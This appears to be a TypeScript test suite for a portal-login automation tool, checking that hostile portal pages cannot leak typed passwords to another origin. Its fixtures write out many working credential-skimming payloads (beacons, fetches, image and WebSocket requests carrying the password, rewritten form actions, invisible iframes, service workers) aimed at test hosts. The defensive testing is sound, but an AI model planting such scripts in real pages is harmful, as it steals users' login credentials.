import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { describe, expect, test, vi } from 'vitest';
import { PipelineError } from '../../../src/domain/failures.ts';
import { closeBrowser, launchBrowser } from '../../../src/portal/browser.ts';
import { startForeignHttpsSite } from './fixtures/foreignHttpsSite.ts';
import { startForeignSite } from './fixtures/foreignSite.ts';
import { csvFile, startPagePortal, type PortalPage } from './fixtures/pagePortal.ts';
import { demoCredentials, failureOf, startSession, testBrowser } from './fixtures/sessions.ts';
import { useFullBrowser } from './fixtures/fullBrowser.ts';

useFullBrowser();

// Against hangs only.
vi.setConfig({ testTimeout: 120_000 });

const { user, password } = demoCredentials;

const recipe = `portal: origins
reports:
  utilization: { title: Utilization }
  notes: { title: Notes }
patience: { stepSeconds: 8, optionalSeconds: 0.5, downloadSeconds: 20 }
signedIn: { link: Sign out }
login:
  - { name: open, goto: "\${portal.url}/" }
  - { name: user, fill: "\${secret.user}", into: { label: User } }
  - { name: password, type: "\${secret.password}", into: { label: Password } }
  - { name: send, click: { button: Sign in }, submits: password }
report:
  - { name: look, wait: { appears: { button: Export } } }
download:
  name: export
  click: { button: Export }
`;

/** Everything that a page of a portal may do with what is typed into it. `there` is the other site. */
interface Attack {
  readonly title: string;
  readonly pages: (there: string) => Readonly<Record<string, PortalPage>>;
  /** What the other site answers, by path. */
  readonly answers?: (here: string) => Readonly<Record<string, string>>;
  /** Undefined where the portal works all the same. */
  readonly type?: 'PortalOriginRefused';
}

const fields =
  '<label>User <input name=user></label><label>Password <input name=password type=password></label>';
const form = (action: string, more = '') =>
  `<form method=post action="${action}">${fields}<button>Sign in</button></form>${more}`;
const app = `<a href="/out">Sign out</a><button onclick="location.href='/file'">Export</button>`;
const working = { '/in': app, '/file': csvFile('a.csv') };
const redirect =
  (status: number, location: string): PortalPage =>
  (request, response) => {
    request.resume();
    request.on('end', () => response.writeHead(status, { location }).end());
  };
/** Runs once the password was typed in whole, before the form is sent. */
const onSubmit = (script: string) =>
  form(
    '/in',
    `<script>document.forms[0].addEventListener('submit', () => { const p = document.forms[0].password.value; ${script} })</script>`,
  );
const onType = (script: string) =>
  form(
    '/in',
    `<script>document.forms[0].password.addEventListener('input', () => { const p = document.forms[0].password.value; ${script} })</script>`,
  );

const attacks: Attack[] = [
  {
    title: 'a redirect before the login page',
    pages: (there) => ({ '/': redirect(302, `${there}/login`) }),
    answers: () => ({ '/login': form('/in') }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a redirect after the login',
    pages: (there) => ({ '/': form('/in'), '/in': redirect(302, `${there}/next`) }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a redirect that sends the form on (307)',
    pages: (there) => ({ '/': form('/in'), '/in': redirect(307, `${there}/next`) }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a redirect over another page of the portal (308)',
    pages: (there) => ({
      '/': form('/in'),
      '/in': redirect(308, '/on'),
      '/on': redirect(308, `${there}/next`),
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a window in front that looks the same',
    pages: (there) => ({
      '/': form('/in', `<script>open('${there}/login', 'w', 'width=400')</script>`),
      ...working,
    }),
    answers: () => ({ '/login': form('/in') }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a form that is sent elsewhere',
    pages: (there) => ({ '/': form(`${there}/in`) }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a button that sends the form elsewhere',
    pages: (there) => ({ '/': form('/in').replace('<button', `<button formaction="${there}/in"`) }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a form that is turned elsewhere once it is filled in',
    pages: (there) => ({ '/': onSubmit(`document.forms[0].action = '${there}/in'`) }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a form sent by GET elsewhere',
    pages: (there) => ({
      '/': onSubmit(`document.forms[0].method = 'get'; document.forms[0].action = '${there}/in'`),
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a fetch',
    pages: (there) => ({
      '/': onType(`fetch('${there}/x', { method: 'POST', mode: 'no-cors', body: p })`),
      ...working,
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'an XMLHttpRequest with JSON',
    pages: (there) => ({
      '/': onSubmit(
        `const x = new XMLHttpRequest(); x.open('POST', '${there}/x'); x.setRequestHeader('content-type', 'application/json'); x.send(JSON.stringify({ p }))`,
      ),
      ...working,
    }),
  },
  {
    title: 'a beacon',
    pages: (there) => ({ '/': onSubmit(`navigator.sendBeacon('${there}/x', p)`), ...working }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a beacon with a blob, as the page goes',
    pages: (there) => ({
      '/': onSubmit(`addEventListener('pagehide', () => navigator.sendBeacon('${there}/x', new Blob([p])))`),
      ...working,
    }),
  },
  {
    title: 'a request that outlives its page, redirected',
    pages: (there) => ({
      '/': onSubmit(`fetch('/hop', { method: 'POST', keepalive: true, body: p })`),
      '/hop': redirect(307, `${there}/x`),
      ...working,
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a picture with the password in its address',
    pages: (there) => ({
      '/': onSubmit(`new Image().src = '${there}/x?' + encodeURIComponent(p)`),
      ...working,
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a picture with the password in base 64',
    pages: (there) => ({ '/': onSubmit(`new Image().src = '${there}/x/' + btoa('u:' + p)`), ...working }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a style sheet with the password in hex',
    pages: (there) => ({
      '/': onSubmit(
        `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${there}/' + Array.from(p, (c) => c.charCodeAt(0).toString(16)).join(''); document.head.append(l)`,
      ),
      ...working,
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a prefetch',
    pages: (there) => ({
      '/': onSubmit(
        `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${there}/?' + p; document.head.append(l)`,
      ),
      ...working,
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a header of a plain request',
    pages: (there) => ({
      '/': onSubmit(`fetch('${there}/x', { headers: { accept: p }, mode: 'no-cors' })`),
      ...working,
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a referrer with the user in the address of the page',
    pages: (there) => ({
      '/': onType(
        `history.replaceState(0, '', '/?user=' + document.forms[0].user.value); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = '${there}/x?' + p.length`,
      ),
      ...working,
    }),
  },
  {
    title: 'a picture with the user in base 64',
    pages: (there) => ({
      '/': onType(
        `new Image().src = '${there}/x?d=' + btoa(JSON.stringify({ user: document.forms[0].user.value, n: p.length }))`,
      ),
      ...working,
    }),
  },
  {
    title: 'a WebSocket',
    pages: (there) => ({
      '/': onSubmit(
        `const w = new WebSocket('${there.replace('http', 'ws')}/x?' + btoa(p)); w.onopen = () => w.send(p)`,
      ),
      ...working,
    }),
  },
  {
    title: 'a WebSocket that was open before',
    pages: (there) => ({
      '/': form(
        '/in',
        `<script>const w = new WebSocket('${there.replace('http', 'ws')}/x'); document.forms[0].password.oninput = (e) => { try { w.send(e.target.value) } catch {} }</script>`,
      ),
      ...working,
    }),
  },
  {
    title: 'a worker of the page',
    pages: (there) => ({
      '/': onSubmit(`new Worker('/w.js').postMessage(p)`),
      '/w.js': (_, response) =>
        response
          .setHeader('content-type', 'text/javascript')
          .end(
            `onmessage = ({ data }) => { fetch('${there}/x', { method: 'POST', mode: 'no-cors', body: data }); const w = new WebSocket('${there.replace('http', 'ws')}/x'); w.onopen = () => w.send(data) }`,
          ),
      '/in': (_, response) =>
        void setTimeout(() => response.setHeader('content-type', 'text/html').end(app), 500),
      '/file': csvFile('a.csv'),
    }),
  },
  {
    title: 'a service worker',
    pages: (there) => ({
      '/': form('/in', `<script>navigator.serviceWorker?.register('/sw.js').catch(() => {})</script>`),
      '/sw.js': (_, response) =>
        response
          .setHeader('content-type', 'text/javascript')
          .end(
            `onfetch = (e) => { e.waitUntil(e.request.clone().text().then((body) => fetch('${there}/x', { method: 'POST', mode: 'no-cors', body }))) }; onactivate = (e) => e.waitUntil(clients.claim())`,
          ),
      ...working,
    }),
  },
  {
    title: 'a page that goes elsewhere by itself',
    pages: (there) => ({
      '/': form('/in'),
      '/in': `<meta http-equiv=refresh content="0; url=${there}/x">`,
    }),
    type: 'PortalOriginRefused',
  },
  {
    title: 'a frame of elsewhere over the field',
    pages: (there) => ({
      '/': form(
        '/in',
        `<iframe src="${there}/over" style="position:fixed;inset:0;width:100%;height:100%;opacity:0"></iframe>`,
      ),
      ...working,
    }),
    answers: () => ({ '/over': `<input autofocus oninput="new Image().src='/k?'+value">` }),
  },
  {
    title: 'a frame of elsewhere that takes the keyboard',
    pages: (there) => ({
      '/': form('/in', `<iframe src="${there}/grab"></iframe>`),
      ...working,
    }),
    answers: () => ({
      '/grab': `<input id=i oninput="fetch('/k', { method: 'POST', body: value })"><script>setInterval(() => { focus(); i.focus() }, 1)</script>`,
    }),
  },
  {
    title: 'a frame of elsewhere that the page hands the password to',
    pages: (there) => ({
      '/': form(
        '/in',
        `<iframe id=f src="${there}/take"></iframe><script>document.forms[0].password.oninput = (e) => f.contentWindow.postMessage(e.target.value, '*')</script>`,
      ),
      ...working,
    }),
    answers: () => ({
      '/take': `<script>onmessage = ({ data }) => fetch('/k', { method: 'POST', body: data })</script>`,
    }),
  },
  {
    title: 'a login form within a frame of elsewhere',
    pages: (there) => ({ '/': `<iframe src="${there}/login" width=600 height=400></iframe>` }),
    answers: () => ({ '/login': form('/in') }),
  },
];

const forms = [
  password,
  encodeURIComponent(password),
  Buffer.from(password).toString('base64').slice(0, 12),
  Buffer.from(`u:${password}`).toString('base64').slice(4, 14),
  Buffer.from(password).toString('hex'),
  user,
  Buffer.from(user).toString('base64').slice(0, 12),
];

/** What the guard is told of a login that the portal leads elsewhere with. */
test('a redirect after the password is distinguished from a page that nobody knows', async () => {
  await using there = await startForeignSite();
  await using portal = await startPagePortal({ '/': form('/in'), '/in': redirect(302, `${there.url}/next`) });
  await using at = await startSession(portal.url, recipe, { reach: { siteProxy: there.siteProxy } });
  await expect(at.session.exportReport(at.request())).rejects.toThrow('not its own');
  await at.session.close();
  expect(at.guard).toEqual(['submit', 'other-origin']);
});

const outOfOrder: PortalPage = (request, response) => {
  request.resume();
  response.writeHead(503, { 'content-type': 'text/html' }).end('<h1>Down for maintenance</h1>');
};

test.each([
  {
    title: 'an outage of the portal is told as one, though statistics were kept back',
    page: (there: string) => onType(`navigator.sendBeacon('${there}/statistics', 'typed')`),
    answer: outOfOrder,
    failure: { type: 'PortalUnavailable', retry: true },
    told: ['submit', 'not-judged'],
  },
  {
    title: 'nor does what a script sent elsewhere explain an outage',
    page: (there: string) =>
      onType(`fetch('${there}/statistics', { method: 'POST', mode: 'no-cors', body: 'typed' })`),
    answer: outOfOrder,
    failure: { type: 'PortalUnavailable', retry: true },
    told: ['submit', 'not-judged'],
  },
  {
    title: 'a page without the fields is a changed page, though statistics were kept back',
    page: (there: string) =>
      `<label>User <input name=user oninput="navigator.sendBeacon('${there}/statistics', 'typed'); new WebSocket('${there.replace('http', 'ws')}/live')"></label>`,
    answer: outOfOrder,
    failure: { type: 'PortalLayoutChanged', retry: true },
    told: [],
  },
  {
    title: 'a login that a script sends elsewhere is refused, though no secret can be seen in it',
    page: (there: string) =>
      `${fields}<button onclick="fetch('${there}/in', { method: 'POST', mode: 'no-cors', body: 'encrypted' }).then(() => location.href = '/in')">Sign in</button>`,
    answer: app,
    failure: { type: 'PortalOriginRefused', retry: false },
    told: ['submit', 'not-judged'],
  },
])('$title', async ({ page, answer, failure, told }) => {
  await using there = await startForeignSite();
  await using portal = await startPagePortal({ '/': page(there.url), '/in': answer });
  await using at = await startSession(portal.url, recipe, { reach: { siteProxy: there.siteProxy } });
  expect(await failureOf(at.session.exportReport(at.request()))).toMatchObject(failure);
  expect(there.received()).toBe('');
  expect(at.guard).toEqual(told);
});

async function attack(
  { pages, answers }: Attack,
  where: 'url' | 'localUrl',
): Promise<{ failure: unknown; received: string; submissions: number }> {
  await using there = await startForeignSite(answers?.(''));
  await using portal = await startPagePortal(pages(there[where]));
  await using at = await startSession(portal.url, recipe, { reach: { siteProxy: there.siteProxy } });
  const failure = await at.session.exportReport(at.request()).then(
    () => undefined,
    (error: unknown) => error,
  );
  await at.session.close();
  return {
    failure,
    received: there.received(),
    submissions: at.guard.filter((call) => call === 'submit').length,
  };
}

function isRefused(failure: unknown): boolean {
  return failure instanceof PipelineError && failure.type === 'PortalOriginRefused' && !failure.retry;
}

describe('another origin gets nothing of a secret', () => {
  test.each(attacks)('$title', async (each) => {
    const { failure, received, submissions } = await attack(each, 'url');
    expect(forms.filter((secret) => received.includes(secret))).toEqual([]);
    expect(submissions).toBeLessThanOrEqual(1);
    expect(each.type === undefined || isRefused(failure)).toBe(true);
  });

  const somewhere = new Set([
    'a redirect before the login page',
    'a window in front that looks the same',
    'a redirect after the login',
  ]);
  test.each(attacks.filter(({ title }) => somewhere.has(title)))(
    'one on this machine is not reached at all: $title',
    async (each) => {
      const { failure, received } = await attack(each, 'localUrl');
      expect(received).toBe('');
      expect(isRefused(failure)).toBe(true);
    },
  );
});

/** Late enough for a socket to open and to send before the page is left. */
const slowly =
  (body: string): PortalPage =>
  (_, response) =>
    void setTimeout(() => response.setHeader('content-type', 'text/html').end(body), 700);

interface HttpsAttack {
  readonly title: string;
  readonly pages: Readonly<Record<string, PortalPage>>;
  /** What it must get all the same. */
  readonly gets: string;
}

const openSocket = "const w = new WebSocket('wss://elsewhere.invalid/socket')";
/** Over HTTP/2 a WebSocket could ride the connection that this opens. */
const library = '<script src="https://elsewhere.invalid/lib.js"></script>';

const httpsAttacks: HttpsAttack[] = [
  {
    title: 'a WebSocket that opens as the password is typed',
    pages: { '/': library + onType(`${openSocket}; w.onopen = () => w.send(p)`) },
    gets: '/lib.js',
  },
  {
    title: 'a WebSocket that was open before',
    pages: {
      '/':
        library +
        form(
          '/in',
          `<script>const form = document.forms[0]; form.hidden = true; ${openSocket};
          w.onopen = () => { w.send('opened'); form.hidden = false };
          form.password.oninput = (e) => w.send(e.target.value)</script>`,
        ),
    },
    gets: 'message opened',
  },
  {
    title: 'a WebSocket of a worker',
    pages: {
      '/': library + onType(`new Worker('/w.js').postMessage(p)`),
      '/w.js': (_, response) =>
        response
          .setHeader('content-type', 'text/javascript')
          .end(`onmessage = ({ data }) => { ${openSocket}; w.onopen = () => w.send(data) }`),
    },
    gets: '/lib.js',
  },
  {
    title: 'nothing but a picture',
    pages: { '/': onType(`new Image().src = 'https://elsewhere.invalid/picture'`) },
    gets: '/picture',
  },
];

/** What the page opens at once is open before the first secret is entered. */
const patientRecipe = recipe.replace(
  '- { name: user,',
  '- { name: ready, wait: { appears: { label: User } } }\n  - { name: user,',
);

describe.each(['h2', 'http/1.1'] as const)('another origin by https, over %s', (protocol) => {
  test.each(httpsAttacks)('gets its plain GETs and no secret through $title', async ({ pages, gets }) => {
    await using there = await startForeignHttpsSite(protocol);
    await using portal = await startPagePortal({ ...pages, '/in': slowly(app), '/file': csvFile('a.csv') });
    const { siteProxy, browser } = there;
    await using at = await startSession(portal.url, patientRecipe, { browser, reach: { siteProxy } });
    await at.session.exportReport(at.request());
    await at.session.close();
    expect(there.received()).toContain(gets);
    expect(forms.filter((secret) => there.received().includes(secret))).toEqual([]);
  });
});

test('no datagram leaves the browser, for WebTransport or WebRTC', async () => {
  const datagrams: Buffer[] = [];
  const udp = createSocket('udp4').bind(0, '127.0.0.1');
  udp.on('message', (datagram) => datagrams.push(datagram));
  await once(udp, 'listening');
  try {
    const there = `127.0.0.1:${String(udp.address().port)}`;
    const script = `try { new WebTransport('https://${there}/').ready.catch(() => {}) } catch {}
      const r = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${there}' }] });
      r.createDataChannel('x'); r.createOffer().then((offer) => r.setLocalDescription(offer))`;
    await using portal = await startPagePortal({
      '/': onType(script),
      '/in': slowly(app),
      '/file': csvFile('a.csv'),
    });
    await using at = await startSession(portal.url, recipe);
    await at.session.exportReport(at.request());
    expect(datagrams).toEqual([]);
    // A browser without the gate does send some, so that they would have been seen.
    const free = await launchBrowser(testBrowser());
    try {
      const page = await free.context.newPage();
      await page.goto(portal.url);
      await page.evaluate(script);
      await expect.poll(() => datagrams.length, { timeout: 30_000 }).toBeGreaterThan(0);
    } finally {
      await closeBrowser(free);
    }
  } finally {
    udp.close();
  }
});
